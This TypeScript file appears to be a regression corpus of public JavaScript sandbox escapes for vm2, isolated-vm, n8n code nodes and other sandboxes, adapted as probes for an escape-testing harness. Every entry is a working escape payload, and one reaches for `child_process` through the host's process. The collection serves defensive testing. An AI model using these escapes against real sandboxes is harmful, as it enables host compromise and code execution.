/**
 * Public ways out of other sandboxes for JavaScript (vm2, isolated-vm, n8n's code nodes and others), each said
 * in this product's terms: of which product, what it is, and the code, which gives `take` (`escape-probe.ts`)
 * whatever it gets hold of.
 */

const overflow = `(function deep() { void new Error().stack; deep() })()`;
const hostError = `const odd = new Error(); odd.name = Symbol();`;

type Escape = readonly [of: string, name: string, code: string];

const vm2: readonly Escape[] = [
  ["vm2 #32", "the constructor of the global object", "take(globalThis); take(globalThis.__proto__)"],
  ["vm2 CVE-2019-10761", "a RangeError of the host's stack", `try { ${overflow} } catch (e) { take(e) }`],
  [
    "vm2 CVE-2019-10761",
    "a built-in that throws at the end of the stack",
    "let once; const f = () => { try { f() } catch (e) { once ??= (() => { try { new URL('no') } catch (i) { take(i) } return 1 })(); throw e } }; try { f() } catch (e) { take(e) }",
  ],
  [
    "vm2 CVE-2021-23449",
    "the promise of an import",
    "let p; try { p = import('./foo.js') } catch (e) { take(e) } take(p); await Promise.resolve(p).then(take, take)",
  ],
  [
    "vm2 CVE-2021-23555",
    "the host's stack sites",
    "Error.prepareStackTrace = (e, sites) => { take(e); take(sites); for (const s of sites ?? []) { take(s); take(s.getThis?.()); take(s.getFunction?.()) } }; void new Error().stack; try { await tools.lab.fail({}) } catch (e) { void e.stack }",
  ],
  [
    "vm2 CVE-2022-36067 (SandBreak)",
    "a false Error with prepareStackTrace",
    "const Old = Error; globalThis.Error = { prepareStackTrace: (_, sites) => { for (const s of sites ?? []) { take(s.getThis?.()); take(s.getFunction?.()) } } }; void new Old().stack; try { null.x } catch (e) { void e.stack }",
  ],
  [
    "vm2 CVE-2022-25893",
    "a rewritten WeakMap",
    "for (const C of [WeakMap, Map, WeakSet, Set]) for (const m of ['get', 'set', 'has', 'add']) if (C.prototype[m]) { const real = C.prototype[m]; C.prototype[m] = function (...args) { take(this); args.forEach(take); return Reflect.apply(real, this, args) } } await tools.lab.echo({ a: [1] })",
  ],
  [
    "vm2 CVE-2023-29017",
    "the stack of an asynchronous error",
    "Error.prepareStackTrace = (e, sites) => { take(sites); return '' }; const f = async () => { throw new Error() }; void f(); await f().catch((e) => { take(e); void e.stack })",
  ],
  [
    "vm2 CVE-2023-29199",
    "the names of an instrumented catch",
    `var VM2_INTERNAL_TMPNAME = {}; try { ${overflow} } catch (a$tmpname) { take(a$tmpname) } try { throw { get constructor() { ${overflow} } } } catch (e) { try { e.constructor } catch (i) { take(i) } }`,
  ],
  [
    "vm2 CVE-2023-30547",
    "a thrown proxy whose getPrototypeOf overflows",
    `const p = new Proxy({}, { getPrototypeOf() { ${overflow} } }); try { try { throw p } catch (e) { Object.getPrototypeOf(e) } } catch ({ constructor }) { take(constructor) }`,
  ],
  [
    "vm2 CVE-2023-32313",
    "a custom inspection's options",
    "console.log({ [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { take(options); take(inspect); return '' } })",
  ],
  [
    "vm2 CVE-2023-32314",
    "the arguments a host passes to a proxy",
    "const e = new Error(); e.name = { toString: new Proxy(() => '', { apply(target, self, args) { take(target); take(self); take(args); return '' } }) }; try { void e.stack; String(e); console.log(e) } catch (i) { take(i) } throw e",
  ],
  [
    "vm2 CVE-2023-37466",
    "a promise with a species",
    `const f = async () => { ${overflow} }; const p = f(); p.constructor = { [Symbol.species]: class { constructor(run) { run(take, take) } } }; try { p.then() } catch (e) { take(e) } await Promise.resolve()`,
  ],
  [
    "vm2 CVE-2023-37466",
    "a call's promise with a species",
    "const p = tools.lab.fail({}); p.constructor = { [Symbol.species]: class { constructor(run) { run(take, take) } } }; try { p.then(take, take) } catch (e) { take(e) } await tools.lab.slow({})",
  ],
  [
    "vm2 CVE-2023-37903",
    "inspection by a failing compileStreaming",
    "const o = { [Symbol.for('nodejs.util.inspect.custom')]: (d, o, inspect) => take(inspect), valueOf: undefined, constructor: undefined }; await WebAssembly.compileStreaming(o).catch(take)",
  ],
  [
    "vm2 #533",
    "the inspect symbol of Buffer",
    "const s = Object.getOwnPropertySymbols(Buffer.prototype)[0]; console.log({ [s]: (d, o, inspect) => take(inspect) })",
  ],
  [
    "vm2 #533",
    "the inspect symbol by a converted key",
    "const s = Symbol.for({ toString: () => 'nodejs.util.inspect.custom' }); const o = { [s]: (d, o, inspect) => { take(o); take(inspect) } }; console.error(o); await tools.lab.echo(o)",
  ],
  [
    "vm2 #533",
    "what Reflect.get is asked for",
    "const get = Reflect.get; Reflect.get = (t, p, r) => { take(t); take(r); return get(t, p, r) }; Symbol.for; await tools.lab.echo({ a: 1 })",
  ],
  [
    "vm2 #533",
    "what the array iterator runs over",
    "const it = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function () { take(this); for (let i = 0; i < this.length; i += 1) take(this[i]); return it.call(this) }; await tools.lab.echo({ a: [1] })",
  ],
  [
    "vm2 #268",
    "Buffer.prototype.inspect",
    "Buffer.prototype.inspect.call({ hexSlice: () => '', magic: { get [Symbol.for('nodejs.util.inspect.custom')]() { throw take } } }, 0, { customInspect: true })",
  ],
  [
    "vm2 CVE-2026-22709",
    "the promise of an asynchronous function",
    `${hostError} const f = async () => odd.stack; f().catch(take); try { await f() } catch (e) { take(e) }`,
  ],
  [
    "vm2 CVE-2026-44000",
    "an object that a host's promise resolves to",
    "const shared = await tools.lab.echo({ list: [1] }); take(shared); take(shared.list); await tools.lab.echo({}).then(take); shared.list.push(2); if ((await tools.lab.echo({ list: [1] })).list.length !== 1) found.push('shared')",
  ],
  [
    "vm2 CVE-2026-44001",
    "a rejection in an executor",
    "void new Promise((_, reject) => reject({ get stack() { throw take }, get message() { throw 1 }, toString: null })); void new Promise(() => { throw Symbol('x') }); await tools.lab.slow({})",
  ],
  [
    "vm2 CVE-2026-44008",
    "setters on the array's prototype",
    "for (let i = 0; i < 4; i += 1) Object.defineProperty(Array.prototype, i, { configurable: true, get() { take(this) }, set(v) { take(this); take(v); Object.defineProperty(this, i, { value: v, writable: true, enumerable: true, configurable: true }) } }); await tools.lab.echo({ a: [1, 2] })",
  ],
  [
    "vm2 CVE-2026-45411",
    "yield* in an asynchronous generator",
    `${hostError} async function* g() { try { yield* { [Symbol.asyncIterator]: () => ({ next: () => ({ done: false, value: 1 }), return: () => ({ then() { void odd.stack; throw odd } }) }) } } catch (e) { take(e) } } const i = g(); await i.next(); await i.return({ then(done) { void odd.stack; done() } }).catch(take)`,
  ],
  [
    "vm2 CVE-2026-47140",
    "built-ins that a deny list forgets",
    "for (const name of ['process', 'inspector/promises', 'node:sqlite', 'node:test', 'wasi']) { try { take(require(name)) } catch (e) { take(e) } }",
  ],
  [
    "vm2 CVE-2026-47210",
    "a promise of WebAssembly's promise integration",
    "take(WebAssembly.promising); new WebAssembly.Suspending(async () => { throw 1 })",
  ],
  [
    "vm2 GHSA-55hx-c926-fr95",
    "a SuppressedError",
    `${hostError} const both = new SuppressedError(1, 2); take(both); const stack = new DisposableStack(); stack.defer(() => void odd.stack); stack.defer(() => { throw 1 }); try { stack.dispose() } catch (e) { take(e); take(e.error); take(e.suppressed) }`,
  ],
  [
    "vm2 GHSA-ffh4-j6h5-pg66",
    "an exception caught in WebAssembly",
    "take(WebAssembly.JSTag); take(WebAssembly.Exception); new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
  ],
  [
    "vm2 GHSA-grj5-jjm8-h35p",
    "__lookupGetter__",
    "const look = ({}).__lookupGetter__; const up = look('__proto__'); for (const each of [tools, tools.lab.echo, console, console.log, codemode, await tools.lab.echo({})]) { try { take(up.call(each)); take(look.call(each, 'x')); take(each.__lookupGetter__('__proto__')) } catch (e) { take(e) } }",
  ],
  [
    "vm2 GHSA-qvjj-29qf-hp7p",
    "the species of Promise itself",
    "Object.defineProperty(Promise, Symbol.species, { get() { return class { constructor(run) { run(take, take) } } } }); try { tools.lab.fail({}).then(take, take) } catch (e) { take(e) } await tools.lab.slow({})",
  ],
  [
    "vm2 docs/ATTACKS 18",
    "an array whose species is itself",
    "const { a } = await tools.lab.echo({ a: [{}, {}] }); a.constructor = { [Symbol.species]: function () { return a } }; a.map(take).forEach(take); a.concat([1]).forEach(take); await tools.lab.echo({ a })",
  ],
  [
    "vm2 docs/ATTACKS 2",
    "getters that descriptors inherit",
    "for (const name of ['get', 'set', 'value', 'writable']) Object.defineProperty(Object.prototype, name, { configurable: true, get() { take(this); return undefined } }); await tools.lab.echo({ a: 1 })",
  ],
  [
    "vm2",
    "callers",
    "function f() { for (const get of [() => f.caller, () => f.arguments, () => arguments.callee, () => arguments.callee.caller]) { try { take(get()) } catch (e) { take(e) } } } f(); [1].forEach(f); await tools.lab.echo({ get a() { f(); return 1 } })",
  ],
  [
    "vm2",
    "a proxy as the prototype of arguments",
    "const p = new Proxy({}, { get: (t) => void take(t), getPrototypeOf: (t) => (take(t), null) }); await tools.lab.echo(Object.setPrototypeOf({ a: 1 }, p))",
  ],
];

const isolatedVm: readonly Escape[] = [
  [
    "isolated-vm CVE-2021-21413",
    "references that reach the host's prototypes",
    "for (const way of ['getSync', 'derefInto', 'copySync', 'applySync', 'setSync', 'deref']) { try { take(await tools.lab.echo[way]('constructor')) } catch (e) { take(e) } }",
  ],
  [
    "isolated-vm CVE-2021-21413",
    "accessors of a transferred value",
    "const v = await tools.lab.echo({ a: { b: 1 } }); for (const o of [v, v.a]) for (const d of Object.values(Object.getOwnPropertyDescriptors(o))) { take(d.get); take(d.set) }",
  ],
  [
    "isolated-vm CVE-2022-39266",
    "cached code of an attacker",
    "const ivm = globalThis.ivm ?? globalThis._ivm ?? require('isolated-vm'); take(ivm); new ivm.Isolate().compileScriptSync('1', { cachedData: new ivm.ExternalCopy(new ArrayBuffer(64)) })",
  ],
  [
    "isolated-vm README",
    "an instance of the module leaked through a global",
    "for (const key of Reflect.ownKeys(globalThis)) { try { const v = globalThis[key]; if (v && typeof v === 'object') { take(v); take(v.constructor) } } catch (e) { take(e) } }",
  ],
];

const n8n: readonly Escape[] = [
  [
    "n8n CVE-2025-68613",
    "`this` of a function",
    "const self = (function () { return this })(); take(self); take(self?.process); return [self.process.mainModule.require('child_process')]",
  ],
  [
    "n8n CVE-2026-1470",
    "a with statement",
    "with (() => {}) { return constructor('return typeof process')() }",
  ],
  [
    "n8n CVE-2026-25049",
    "a destructured parameter",
    "(({ constructor }) => take(constructor))(() => {}); (({ constructor: { constructor: c } }) => take(c))({})",
  ],
  [
    "n8n CVE-2026-25049",
    "a key that is no string",
    "take((() => {})[['constructor']]); take((() => {})[{ toString: () => 'constructor' }]); take((() => {})[`constr${'uctor'}`])",
  ],
  [
    "n8n CVE-2026-27577",
    "names that a rewriter misses",
    "const of = [() => ({ ...process }), () => [...process], () => `${process}`, () => class extends process {}, () => ({ process }), () => typeof process.env]; for (const get of of) { try { take(get()); found.push('process') } catch (e) { take(e) } }",
  ],
  [
    "n8n Code node",
    "helpers and workflow data",
    "for (const name of ['$', '$input', '$getWorkflowStaticData', 'helpers', 'items', '$evaluateExpression', 'getBinaryDataBuffer', 'rpc']) if (typeof globalThis[name] !== 'undefined') found.push(name)",
  ],
];

const others: readonly Escape[] = [
  [
    "enclave-vm CVE-2026-22686",
    "the prototypes of a failed call's error",
    "try { await tools.lab.fail({}) } catch (e) { for (let at = e; at; at = Object.getPrototypeOf(at)) { take(at); take(at.constructor) } take(e.cause); take(e.data); take(e.stack) }",
  ],
  [
    "enclave-vm CVE-2026-22686",
    "the error of a tool that is not there",
    "for (const call of [() => tools.no.such({}), () => codemode.no(), () => tools.lab.strict({}), () => tools.lab.denied({})]) { try { await call() } catch (e) { take(e); take(e.data); take(Object.getPrototypeOf(e)) } }",
  ],
  ["safe-eval CVE-2017-16088", "the constructor of this", "take(this); take(globalThis.constructor)"],
  ["static-eval CVE-2021-23334", "a method of a string", "take((({ x }) => x.constructor)({ x: ''.sub }))"],
  [
    "SandboxJS CVE-2026-23830",
    "constructors of other functions",
    "for (const f of [async () => {}, function* () {}, async function* () {}, class {}]) { take(f); take(Object.getPrototypeOf(f)); take(Object.getPrototypeOf(f).constructor) }",
  ],
  [
    "realms-shim CVE-2021-23543",
    "objects made while the host converts",
    "const e = { get message() { take(this); return { toString() { take(this); return '' } } }, get name() { throw take } }; try { throw e } catch (i) { take(i) } console.log(e); throw e",
  ],
  [
    "realms-shim",
    "arrays spread over a boundary",
    "const spread = (...all) => all; take(spread(...(await tools.lab.echo({ a: [1] })).a)); take(Reflect.ownKeys({ a: 1 })); take(Object.entries({ a: 1 })[0])",
  ],
  [
    "ThingsBoard executor",
    "the list of arguments a host passes",
    "take((function () { return arguments })()); take(await tools.lab.echo({ args: [] }).then((v) => v.args)); await { then(...all) { all.forEach(take); take(all); all[0]() } }",
  ],
  [
    "node:vm documentation",
    "a host's asynchronous function",
    "take(tools.lab.echo); take(tools.lab.echo({})); take(codemode.search); take(codemode.step); take(setTimeout); take(console.log); take(crypto?.subtle?.digest)",
  ],
];

export const escapes: readonly Escape[] = [...vm2, ...isolatedVm, ...n8n, ...others];
